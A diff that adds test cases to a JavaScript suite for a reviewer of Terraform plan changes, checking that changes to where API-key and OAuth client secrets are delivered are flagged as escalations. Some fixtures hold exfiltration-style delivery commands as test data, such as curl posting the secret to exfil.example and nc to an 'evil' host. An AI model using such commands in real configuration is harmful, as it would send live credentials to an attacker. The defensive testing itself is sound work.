@@ -235,6 +235,81 @@ describe('reviewPlan classifies each keyform change', () => {
       ],
     },
     {
+      reason: 'delivery moved from a file to a command is a new path to a live secret: escalation naming the command',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/secrets/pay' } }), key({ secret_delivery: { command: 'curl https://exfil.example -d @-' } }))],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to command curl https://exfil.example -d @- (was sent to file /run/secrets/pay)']],
+    },
+    {
+      reason: 'delivery to another file is an escalation naming both files',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { file: '/tmp/world-readable' } }))],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to file /tmp/world-readable (was sent to file /run/a)']],
+    },
+    {
+      reason: 'delivery added to a key that kept its secret in state is an escalation',
+      changes: [change('keyform_api_key.pay', ['update'], key(), key({ secret_delivery: { command: 'vault kv put secret/pay value=-' } }))],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to command vault kv put secret/pay value=- (was kept in Terraform state)']],
+    },
+    {
+      reason: 'delivery removed puts the secret back into state: escalation',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key())],
+      expected: [['escalation', 'the secret of payments-svc will now be kept in Terraform state (was sent to file /run/a)']],
+    },
+    {
+      reason: 'a delivery block written as a list block is read the same way',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: [{ file: '/run/a' }] }), key({ secret_delivery: [{ command: 'nc evil 9' }] }))],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to command nc evil 9 (was sent to file /run/a)']],
+    },
+    {
+      reason: 'the same command with other settings (env, timeout) can go elsewhere: escalation naming the settings',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { command: 'aws secretsmanager put-secret-value', env: { AWS_ENDPOINT_URL: 'https://a' } } }), key({ secret_delivery: { command: 'aws secretsmanager put-secret-value', env: { AWS_ENDPOINT_URL: 'https://evil' } } }))],
+      expected: [['escalation', 'the secret of payments-svc is still sent to command aws secretsmanager put-secret-value with changed delivery settings env']],
+    },
+    {
+      reason: 'a destination known only after apply could be anything: escalation, shown as unknown',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { file: null } }), { after_unknown: { secret_delivery: { file: true } } })],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to file (known after apply) (was sent to file /run/a)']],
+    },
+    {
+      reason: 'a destination marked sensitive is reviewed but never shown',
+      changes: [
+        change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { command: 'curl -H token:hunter2hunter2' } }), {
+          after_sensitive: { value: true, secret_delivery: { command: true } },
+        }),
+      ],
+      expected: [['escalation', 'the secret of payments-svc will now be sent to a command marked sensitive (not shown) (was sent to file /run/a)']],
+    },
+    {
+      reason: 'a new key delivered somewhere is a new live credential and a new path to its secret',
+      changes: [change('keyform_api_key.pay', ['create'], null, key({ id: null, secret_delivery: { command: 'op item create' } }), { after_unknown: { id: true, value: true } })],
+      expected: [
+        ['escalation', 'the secret of payments-svc will be sent to command op item create'],
+        ['new-live', 'payments-svc is a new secret key for merchant mid_123456 with scopes charges:read'],
+      ],
+    },
+    {
+      reason: 'an unchanged delivery on a rotation is no new path',
+      changes: [change('keyform_api_key.pay', ['update'], key({ secret_delivery: { file: '/run/a' } }), key({ secret_delivery: { file: '/run/a' }, version: null, fingerprint: null }), { after_unknown: { version: true, fingerprint: true } })],
+      expected: [['rotation', 'payments-svc is rotated: a new secret is issued']],
+    },
+    {
+      reason: "an authorization's client secret delivered to a new command is an escalation too (by attribute name)",
+      changes: [change('keyform_oauth_authorization.cc', ['update'], authz({ secret_delivery: null }), authz({ secret_delivery: { command: 'curl https://exfil.example -d @-' } }))],
+      expected: [['escalation', 'the client secret of authorization claude-code will now be sent to command curl https://exfil.example -d @- (was kept in Terraform state)']],
+    },
+    {
+      reason: "an authorization's delivery removed puts its client secret back into state",
+      changes: [change('keyform_oauth_authorization.cc', ['update'], authz({ secret_delivery: { file: '/run/cc' } }), authz({ secret_delivery: null }))],
+      expected: [['escalation', 'the client secret of authorization claude-code will now be kept in Terraform state (was sent to file /run/cc)']],
+    },
+    {
+      reason: 'a new authorization delivered to a file names the file',
+      changes: [change('keyform_oauth_authorization.cc', ['create'], null, authz({ id: null, secret_delivery: { file: '/run/cc' } }), { after_unknown: { id: true } })],
+      expected: [
+        ['escalation', 'the client secret of authorization claude-code will be sent to file /run/cc'],
+        ['new-live', 'authorization claude-code is a new oauth2 authorization acting for user usr_alice with capabilities mcp'],
+      ],
+    },
+    {
       reason: 'data sources, other providers and no-op changes are not reviewed',
       changes: [
         { ...change('keyform_api_key.read', ['read'], null, key()), mode: 'data' },
